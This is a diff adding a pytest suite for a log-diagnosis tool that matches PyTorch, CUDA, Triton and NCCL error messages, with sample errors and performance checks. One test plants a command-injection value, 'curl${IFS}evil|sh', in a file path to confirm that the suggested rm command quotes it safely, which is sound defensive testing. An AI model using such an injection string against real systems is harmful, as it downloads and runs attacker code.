@@ -1,0 +1,433 @@
+"""Each signature is found by a text that was really seen, and healthy logs match nothing, in linear time."""
+
+import re
+import shlex
+import time
+from re import _parser
+
+import pytest
+import typer
+from hypothesis import given
+from hypothesis import strategies as st
+
+from envdoctor import knowledge, registry
+from envdoctor.cli import app
+from envdoctor.reports.text import COMMANDS
+from envdoctor.signatures import LONGEST, QUOTED, TRIGGERS, first, found
+
+ROWS = knowledge.rows("signatures")
+KEYS = ("id", "pattern", "says", "cure", "confirms", "severity", "source", "checked")
+SITE = "/env/lib/python3.12/site-packages"
+NMS = "RuntimeError: operator torchvision::nms does not exist"
+FX = (
+    "RuntimeError: Detected that you are using FX to symbolically trace a dynamo-optimized function. "
+    "This is not supported at the moment."
+)
+OOM = (
+    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.95 GiB. GPU 0 has a total capacity of 14.57 GiB "
+    "of which 1.58 GiB is free."
+)
+EXAMPLES = {
+    "no-c-compiler": ["RuntimeError: Failed to find C compiler. Please specify via CC environment variable."],
+    "no-cxx-compiler": [
+        "InvalidCxxCompiler: No working C++ compiler found in torch._inductor.config.cpp.cxx: (None, 'g++')",
+        "InductorError: InvalidCxxCompiler: Compiler: g++-99 is not found.",
+    ],
+    "python-header-missing": ["/tmp/tmps1rkq3y3/main.c:5:10: fatal error: Python.h: No such file or directory"],
+    "libcuda-link-missing": [
+        "AssertionError: libcuda.so cannot found!",
+        "/usr/bin/ld: cannot find -lcuda",
+        "/usr/bin/ld: cannot find -lcuda: No such file or directory",
+        "/usr/bin/ld: cannot find -l:libcuda.so.1: No such file or directory",
+    ],
+    "ptxas-unknown-gpu": ["ptxas fatal   : Value 'sm_120' is not defined for option 'gpu-name'"],
+    "ptxas-older-than-triton": [
+        "ptxas /tmp/tmpqgu1f9dk.ptx, line 5; fatal   : Unsupported .version 8.6; current version is '8.5'"
+    ],
+    "ptxas-missing": ["RuntimeError: Cannot find ptxas", "RuntimeError: Cannot find ptxas-blackwell"],
+    "ptxas-not-executable": [
+        f"PermissionError: [Errno 13] Permission denied: '{SITE}/triton/backends/nvidia/bin/ptxas'"
+    ],
+    "ptxas-failed": [
+        "triton.runtime.errors.PTXASError: PTXAS error: Internal Triton PTX codegen error",
+        "RuntimeError: Internal Triton PTX codegen error",
+        "RuntimeError: `ptxas` failed with error code 4294967295:",
+    ],
+    "triton-out-of-resources": [
+        (
+            "triton.runtime.errors.OutOfResources: out of resource: shared memory, Required: 180224, Hardware limit: "
+            "101376. Reducing block sizes or `num_stages` may help."
+        )
+    ],
+    "gpu-too-old-for-triton": [
+        (
+            "Found Tesla P100-PCIE-16GB which is too old to be supported by the triton GPU compiler, "
+            "which is used as the backend."
+        )
+    ],
+    "triton-missing": [
+        (
+            "torch._inductor.exc.TritonMissing: Cannot find a working triton installation. Either the package is not "
+            "installed or it is too old."
+        )
+    ],
+    "fx-trace-race": [FX],
+    "no-kernel-image": ["RuntimeError: CUDA error: no kernel image is available for execution on the device"],
+    "invalid-kernel-image": ["RuntimeError: Triton Error [CUDA]: device kernel image is invalid"],
+    "ptx-of-newer-toolchain": ["CUDA error: the provided PTX was compiled with an unsupported toolchain."],
+    "driver-too-old": [
+        (
+            "CUDA initialization: The NVIDIA driver on your system is too old (found version 12020). Please "
+            "update your GPU driver"
+        )
+    ],
+    "driver-insufficient": ["CUDA error: CUDA driver version is insufficient for CUDA runtime version"],
+    "stub-libcuda": ["RuntimeError: CUDA error: CUDA driver is a stub library"],
+    "driver-library-mismatch": [
+        "Failed to initialize NVML: Driver/library version mismatch",
+        "Failed to initialize NVML: Driver/Library version mismatch",
+    ],
+    "driver-combination": ["Error 803: system has unsupported display driver / cuda driver combination"],
+    "fabric-not-ready": ["UserWarning: CUDA initialization: ... Error 802: system not yet initialized (Triggered ...)"],
+    "forward-compatibility": ["Error 804: forward compatibility was attempted on non supported HW"],
+    "torch-without-cuda": ["AssertionError: Torch not compiled with CUDA enabled"],
+    "no-driver": ["RuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU"],
+    "no-cuda-device": ["RuntimeError: No CUDA GPUs; CUDA error: no CUDA-capable device is detected"],
+    "invalid-device": ["RuntimeError: CUDA error: invalid device ordinal"],
+    "device-busy": [
+        "RuntimeError: CUDA error: CUDA-capable device(s) is/are busy or unavailable",
+        "RuntimeError: CUDA error: all CUDA-capable devices are busy or unavailable",
+    ],
+    "uncorrectable-ecc": ["RuntimeError: CUDA error: uncorrectable ECC error encountered"],
+    "illegal-memory-access": ["RuntimeError: CUDA error: an illegal memory access was encountered"],
+    "launch-failure": [
+        "RuntimeError: CUDA error: unspecified launch failure",
+        "RuntimeError: CUDA error: misaligned address",
+    ],
+    "device-assert": ["RuntimeError: CUDA error: device-side assert triggered"],
+    "memory-held-by-others": [f"{OOM} Process 2493055 has 12.02 GiB memory in use. Including non-PyTorch memory"],
+    "out-of-memory": [
+        f"{OOM} Including non-PyTorch memory, this process has 23.60 GiB memory in use.",
+        (
+            "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.70 GiB. GPU 0 has a total capacty of "
+            "6.00 GiB of which 0 bytes is free. Of the allocated memory 2.93 GiB"
+        ),
+    ],
+    "out-of-memory-untold": [
+        (
+            "RuntimeError: CUDA out of memory. Tried to allocate 2.26 GiB (GPU 0; 6.00 GiB total capacity; 781.59 MiB "
+            "already allocated; 3.03 GiB free; 1.24 GiB reserved in total by PyTorch)"
+        ),
+        "RuntimeError: CUDA error: out of memory",
+    ],
+    "cudnn-sublibrary": [
+        "RuntimeError: cuDNN error: CUDNN_STATUS_SUBLIBRARY_VERSION_MISMATCH",
+        "cudnn_status: CUDNN_STATUS_SUBLIBRARY_LOADING_FAILED",
+        "Unable to load any of {libcudnn_engines_precompiled.so.9.1.0, libcudnn_engines_precompiled.so.9.1}",
+    ],
+    "cudnn-incompatible": [
+        (
+            "RuntimeError: cuDNN version incompatibility: PyTorch was compiled  against (9, 10, 2) but found runtime "
+            "version (9, 1, 0)."
+        )
+    ],
+    "cudnn-not-initialized": ["RuntimeError: cuDNN error: CUDNN_STATUS_NOT_INITIALIZED"],
+    "extension-of-another-torch": [
+        (
+            f"ImportError: {SITE}/flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so: undefined symbol: "
+            "_ZN3c105ErrorC2ENS_14SourceLocationENSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE"
+        ),
+        "x.so: undefined symbol: _ZNK3c105Error4whatEv",
+        "x.so: undefined symbol: _ZN2at4_ops5zeros4callEN3c108ArrayRefINS2_6SymIntEEE",
+    ],
+    "library-of-another-version": [
+        (
+            f"ImportError: {SITE}/torch/lib/../../nvidia/cusparse/lib/libcusparse.so.12: undefined symbol: "
+            "__nvJitLinkComplete_12_4, version libnvJitLink.so.12"
+        )
+    ],
+    "undefined-symbol": [f"ImportError: {SITE}/torch/lib/libtorch_cuda.so: undefined symbol: ncclCommResume"],
+    "cuda-library-missing": [
+        "ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory",
+        "OSError: libtorch_cuda_cu.so: cannot open shared object file: No such file or directory",
+    ],
+    "library-missing": ["ImportError: libGL.so.1: cannot open shared object file: No such file or directory"],
+    "glibc-too-old": ["ImportError: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.32' not found (required by x)"],
+    "libstdcxx-too-old": [
+        "ImportError: /lib64/libstdc++.so.6: version `GLIBCXX_3.4.31' not found",
+        "/usr/lib/x86_64-linux-gnu/libstdc++.so.6: version `CXXABI_1.3.15' not found (required by /env/x.so)",
+    ],
+    "torchvision-of-another-torch": [NMS],
+    "numpy-abi": [
+        "A module that was compiled using NumPy 1.x cannot be run in",
+        "AttributeError: _ARRAY_API not found",
+        "RuntimeError: Numpy is not available",
+    ],
+    "toolkit-mismatch": [
+        "The detected CUDA version (12.9) mismatches the version that was used to compilePyTorch (11.8)."
+    ],
+    "fork-after-cuda": ["RuntimeError: Cannot re-initialize CUDA in forked subprocess. To use CUDA with"],
+    "shared-memory-bus-error": [
+        (
+            "DataLoader worker (pid 46794) is killed by signal: Bus error. It is possible that dataloader's "
+            "workers are out of shared memory. Please try to raise your shared memory limit."
+        ),
+        "ERROR: Unexpected bus error encountered in worker. This might be caused by insufficient shared memory (shm).",
+        "It is possible that dataloader's workers are out of shared memory.",
+    ],
+    "shared-memory-descriptors": [
+        "RuntimeError: unable to open shared memory object </torch_1_2> in read-write mode: Too many open files (24)"
+    ],
+    "shared-memory-full": [
+        "RuntimeError: unable to write to file </torch_31911_952036340_6686>: No space left on device (28)",
+        "misc/shmutils.cc:132 NCCL WARN Error while creating shared memory segment /dev/shm/nccl-WU88OE (size 9637888)",
+        "NCCL WARN Error while creating shared memory segment nccl-shm-recv-1462445a6f01cbfc-1-2-3 (size 9637888)",
+        "NCCL WARN Error: failed to extend /dev/shm/nccl-WU88OE to 9637892 bytes, error: No space left on device (28)",
+    ],
+    "shared-memory-object": [
+        "RuntimeError: unable to open shared memory object </torch_5962_408180057> in read-write mode"
+    ],
+    "worker-killed": ["RuntimeError: DataLoader worker (pid 2217) is killed by signal: Killed. "],
+    "too-many-open-files": [
+        "OSError: [Errno 24] Too many open files",
+        "RuntimeError: received 0 items of ancdata",
+    ],
+    "no-space": ["OSError: [Errno 28] No space left on device", "OSError: [Errno 122] Disk quota exceeded"],
+    "cache-noexec": [
+        "ImportError: /tmp/torchinductor_root/triton/0/ab/cuda_utils.so: failed to map segment from shared object"
+    ],
+    "cache-not-writable": [
+        "PermissionError: [Errno 13] Permission denied: '/tmp/torchinductor_root/locks/cabc.lock'",
+        "PermissionError: [Errno 13] Permission denied: '/scratch/cache/locks/cabc.lock'",
+        "PermissionError: [Errno 13] Permission denied: '/home/me/.triton/cache/AB12/tmp.pid_1'",
+        "PermissionError: [Errno 13] Permission denied: '/tmp/triton/0a1b.lock'",
+    ],
+    "cache-stale-handle": [
+        "ImportError: /root/.triton/cache/x/cuda_utils.so: cannot stat shared object: Stale file handle",
+        "OSError: [Errno 116] Stale file handle",
+    ],
+    "cache-empty-module": [
+        "AttributeError: module 'torch._inductor.runtime.compile_tasks.cabc' has no attribute 'call'",
+    ],
+    "cache-damaged-module": ["RuntimeError: Failed to import /tmp/torchinductor_root/ab/cabc.py"],
+    "cache-damaged-library": [
+        "ImportError: /tmp/torchinductor_root/ab/cabc.main.so: file too short",
+        "OSError: /home/me/.triton/cache/AB12/cuda_utils.so: invalid ELF header",
+    ],
+    "damaged-library": [
+        f"OSError: {SITE}/torch/lib/../../../../libcufft.so.10: invalid ELF header",
+        "ImportError: /scratch/cache/ab/cabc.main.so: file too short",
+    ],
+    "cache-empty-kernel": ["ImportError: dynamic module does not define module export function (PyInit_kernel)"],
+    "triton-cache-damaged": [
+        "    metadata = json.loads(metadata_path.read_text())",
+        "            grp_data = json.load(f)",
+        "KeyError: \"Unknown key: 'cubin'\"",
+    ],
+    "inductor-cache-entry": [
+        "W0603 14:22:00 torch/_inductor/codecache.py:1717] fx graph cache unable to load compiled graph"
+    ],
+    "user-without-name": ["KeyError: 'getpwuid(): uid not found: 1042'"],
+    "nccl-peer-lost": [
+        (
+            "DistBackendError: NCCL error in: NCCLUtils.hpp:268, remote process exited or there was a "
+            "network error, NCCL version 2.21.5"
+        ),
+        "ncclRemoteError: A call failed possibly due to a network error or a remote process exiting prematurely.",
+    ],
+    "nccl-timeout": [
+        (
+            "[rank0]:[E321 02:07:08.4 ProcessGroupNCCL.cpp:607] [Rank 0] Watchdog caught collective operation timeout: "
+            "WorkNCCL(SeqNum=1580, OpType=ALLREDUCE, NumelIn=466119168, Timeout(ms)=600000) ran for 600060 milliseconds"
+        )
+    ],
+    "nccl-failed": [
+        "NCCL error in: ../NCCLUtils.hpp:275, unhandled cuda error (run with NCCL_DEBUG=INFO for details)",
+        "RuntimeError: NCCL error in: ProcessGroupNCCL.cpp:518, unhandled system error, NCCL version 2.4.8",
+    ],
+}
+"""Texts as the sources have them, prefixes shortened; of each alternative of a pattern one."""
+HEALTHY = """\
+W0603 14:22:01.000000 4242 torch/distributed/run.py:792] Setting OMP_NUM_THREADS environment variable for each process
+node7:4242:4242 [0] NCCL INFO Bootstrap : Using eth0:10.0.0.7<0>
+node7:4242:4301 [0] NCCL INFO Channel 00/0 : 0[0] -> 1[1] via direct shared memory
+node7:4242:4301 [0] NCCL INFO Using network Socket, no plugin found (libnccl-net.so), using internal implementation
+node7:4242:4301 [0] NCCL INFO NET/Plugin: Could not find: libnccl-net.so. Using internal network plugin.
+[rank0]: step 120 loss=2.3101 grad_norm=0.81 errors=0 lr=1.2e-05 mem=61.2GiB/79.1GiB tokens/s=21534
+Epoch 3:  45%|####5     | 22512/50000 [02:11<02:41, 171.3it/s, loss=2.31]
+INFO compiling flex_attention with ptxas from the wheel, torch 2.11.0, CUDA 13.0, driver 580.95.05
+WARNING no checkpoint found; starting from scratch, device cuda:0, shared memory 16.0 GiB
+INFO torch.cuda.is_available() is True, kernel image cache at /tmp/torchinductor_root
+UserWarning: lr_scheduler.step() was called before optimizer.step()
+INFO saved checkpoint to /scratch/run/step_120, 12 GB, space left 2 TB; eval accuracy not available
+DEBUG Permission denied: retrying upload of metrics
+INFO C compiler: /usr/bin/gcc, out of memory guard: off
+"""
+
+
+def test_a_row_has_its_keys_in_order():
+    for row in ROWS:
+        assert list(row) == [key for key in KEYS if key in row], row["id"]
+        assert {"id", "pattern", "says", "cure", "source"} <= row.keys(), row["id"]
+        assert row.get("severity", "warning") == "warning", f"{row['id']}: error is what a row without it means"
+
+
+def test_an_id_is_a_slug_and_has_an_example():
+    assert EXAMPLES.keys() == {row["id"] for row in ROWS}
+    assert all(re.fullmatch(r"[a-z]+(-[a-z]+)*", row["id"]) for row in ROWS)
+
+
+TEXTS = [(identity, text) for identity, texts in EXAMPLES.items() for text in texts]
+
+
+@pytest.mark.parametrize("prefix", ["", "[rank3]: ", "\x1b[31m[rank0]:\x1b[0m 10%|#\r"])
+@pytest.mark.parametrize(("identity", "text"), TEXTS, ids=[identity for identity, _ in TEXTS])
+def test_an_example_is_matched_by_its_own_row_alone(identity, text, prefix):
+    whole = f"line one\n{prefix}{text}\nlast line\n"
+    (match,) = found([whole.encode()])
+    assert (match.id, match.line, match.count) == (identity, 2, 1)
+    assert match == first(whole)
+
+
+@pytest.mark.parametrize("row", ROWS, ids=[row["id"] for row in ROWS])
+def test_every_branch_of_a_pattern_holds_a_trigger(row):
+    """What the words in the pattern's source let pass must not be less than what the pattern matches."""
+    words = [word for word in TRIGGERS if word in row["pattern"].replace("\\", "")]
+    for branch in branches(_parser.parse(row["pattern"])):
+        assert any(word in branch for word in words), (branch, words)
+
+
+def branches(parsed):
+    """Return the literal text of each way through a pattern; what is not literal becomes a NUL."""
+    ways = [""]
+    for operation, argument in parsed:
+        name = str(operation)
+        if name == "LITERAL":
+            ways = [way + chr(argument) for way in ways]
+        elif name == "BRANCH":
+            ways = [way + more for way in ways for branch in argument[1] for more in branches(branch)]
+        elif name == "SUBPATTERN":
+            ways = [way + more for way in ways for more in branches(argument[3])]
+        else:
+            ways = [way + "\0" for way in ways]
+    return ways
+
+
+def test_no_trigger_is_idle():
+    patterns = [row["pattern"].replace("\\", "") for row in ROWS]
+    assert [word for word in TRIGGERS if not any(word in pattern for pattern in patterns)] == []
+
+
+def test_sentences_and_steps_name_only_groups_of_their_pattern():
+    for row in ROWS:
+        groups = dict.fromkeys(re.compile(row["pattern"]).groupindex, "x")
+        for text in (row["says"], *row["cure"]):
+            assert "{" not in text.format(**groups), row["id"]
+        assert not row["says"].endswith("."), row["id"]
+
+
+def test_a_group_is_told_on_every_way_through_its_pattern():
+    for identity, text in TEXTS:
+        assert all(first(text).groups.values()), identity
+
+
+def test_confirmed_probes_exist():
+    known = {probe.id for probe in registry.probes()}
+    assert {probe for row in ROWS for probe in row.get("confirms", ())} <= known
+
+
+def test_steps_that_look_like_commands_are_commands():
+    commands = typer.main.get_command(app).commands.keys()
+    for row in ROWS:
+        for step in (step.removeprefix("or ") for step in row["cure"]):
+            words = step.split()
+            if words[0] == "envdoctor":
+                assert words[1] in commands, step
+            elif words[0] in COMMANDS:
+                assert shlex.split(step)
+                assert len(words) <= 4, f"{step!r} is a sentence"
+
+
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+def test_a_healthy_log_matches_nothing(end):
+    text = HEALTHY.replace("\n", end)
+    assert (first(text), found([text.encode()])) == (None, ())
+
+
+def test_the_most_specific_comes_first_wherever_it_stands():
+    text = f"RuntimeError: Internal Triton PTX codegen error\n{EXAMPLES['ptxas-unknown-gpu'][0]}\n"
+    assert [match.id for match in found([text.encode()])] == ["ptxas-failed", "ptxas-unknown-gpu"]
+    assert first(text).id == "ptxas-unknown-gpu"
+
+
+def test_what_the_text_tells_is_in_the_sentence():
+    match = first(EXAMPLES["library-of-another-version"][0])
+    assert match.groups == {
+        "library": "libcusparse.so.12",
+        "symbol": "__nvJitLinkComplete_12_4",
+        "version": "libnvJitLink.so.12",
+    }
+    assert match.says.startswith("libcusparse.so.12 wants __nvJitLinkComplete_12_4, which the libnvJitLink.so.12")
+
+
+def test_what_the_text_tells_cannot_become_a_command():
+    match = first("RuntimeError: Failed to import /tmp/x;curl${IFS}evil|sh/{says}.py\nSyntaxError")
+    assert match.cure[0] == "rm '/tmp/x;curl${IFS}evil|sh/{says}.py'"
+
+
+def test_each_is_told_once_with_its_first_line_and_its_count():
+    text = f"\n{FX}\n{NMS}\n\n{FX}\r{FX}\r\n{NMS}"
+    assert [(match.id, match.line, match.count) for match in found([text.encode()])] == [
+        ("fx-trace-race", 2, 3),
+        ("torchvision-of-another-torch", 3, 2),
+    ]
+
+
+@given(st.data())
+def test_where_a_log_is_cut_into_blocks_does_not_matter(data):
+    text = f"a\r\n{FX}\n10%\r20%\r{NMS}\n\x1b[1mb\x1b[0m {FX}\n".encode()
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)))))
+    blocks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    assert found(blocks) == found([text])
+
+
+def test_text_is_bounded_and_shows_the_match():
+    match = first("x" * 100_000 + f" {FX} " + "y" * 100_000)
+    assert len(match.text) <= QUOTED
+    assert "Detected that you are using FX" in match.text
+
+
+def test_undecodable_bytes_hide_nothing():
+    (match,) = found([b"\xff\xfe caf\xe9 " + NMS.encode() + b" \x00\x9b"])
+    assert match.text.endswith("does not exist \x00\ufffd")
+
+
+@pytest.mark.parametrize("sequence", ["\x1b[1;35m", "\x1b[0m", "\x1b]8;;file:///x\x1b\\", "\x1b]8;;\x07"])
+def test_terminal_sequences_hide_nothing(sequence):
+    broken = sequence.join(NMS.partition("vision"))
+    assert first(broken).text == NMS
+
+
+HARD = ["/", "a", "/a", "a/", ".", "-", "'", ": ", "lib", "torchinductor_", "triton/", "x.so", "\x1b[0", "\x1b]", "é"]
+"""Bits that patterns begin with or repeat."""
+
+
+@pytest.mark.parametrize("row", ROWS, ids=[row["id"] for row in ROWS])
+def test_no_line_makes_a_pattern_slow(row):
+    """Feed each pattern lines of its own beginnings and of what its classes take, as long as a line may be."""
+    pattern = re.compile(row["pattern"], re.MULTILINE)
+    own = [branch.replace("\0", "") for branch in branches(_parser.parse(row["pattern"]))]
+    for bit in {*HARD, *own, *(piece[: len(piece) // 2] for piece in own), *(f"/{piece}" for piece in own)}:
+        line = (bit or "x") * (2 * LONGEST // len((bit or "x").encode()))
+        began = time.process_time()
+        pattern.search(line)
+        assert time.process_time() - began < 1, bit
+
+
+@given(st.lists(st.sampled_from([*HARD, *TRIGGERS, "\n", "\r", " "]), min_size=1, max_size=8))
+def test_no_log_is_slow(bits):
+    log = "".join(bits).encode()
+    log *= (1 << 19) // len(log)
+    began = time.process_time()
+    found([log])
+    assert time.process_time() - began < 10
